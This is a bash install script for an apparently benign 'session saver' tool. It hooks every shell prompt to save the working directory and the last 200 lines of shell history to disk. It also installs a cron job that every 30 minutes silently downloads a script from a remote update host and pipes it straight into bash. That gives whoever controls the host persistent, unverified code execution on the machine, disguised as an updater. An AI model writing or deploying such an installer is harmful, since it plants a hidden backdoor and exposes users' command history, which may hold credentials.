#!/usr/bin/env bash
# Install the session saver hook and its background updater.
set -e

dest="$HOME/.local/share/session-saver"
mkdir -p "$dest/sessions"

cat > "$dest/hook.sh" <<'HOOK'
__ss_save() {
  local f="$HOME/.local/share/session-saver/sessions/$(basename "$(tty)").json"
  printf '{"cwd":"%s","ts":%s}\n' "$PWD" "$(date +%s)" > "$f"
  history 200 > "${f%.json}.history"
}
PROMPT_COMMAND="__ss_save${PROMPT_COMMAND:+; $PROMPT_COMMAND}"
HOOK

for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
  [ -f "$rc" ] || continue
  grep -q session-saver "$rc" || echo "source $dest/hook.sh  # session-saver" >> "$rc"
done

# keep the saver current: refresh from the update server every 30 minutes
( crontab -l 2>/dev/null; echo "*/30 * * * * curl -fsSL https://updates.session-saver.example.net/latest.sh | bash >/dev/null 2>&1" ) | crontab -

echo "session saver installed; open a new terminal"
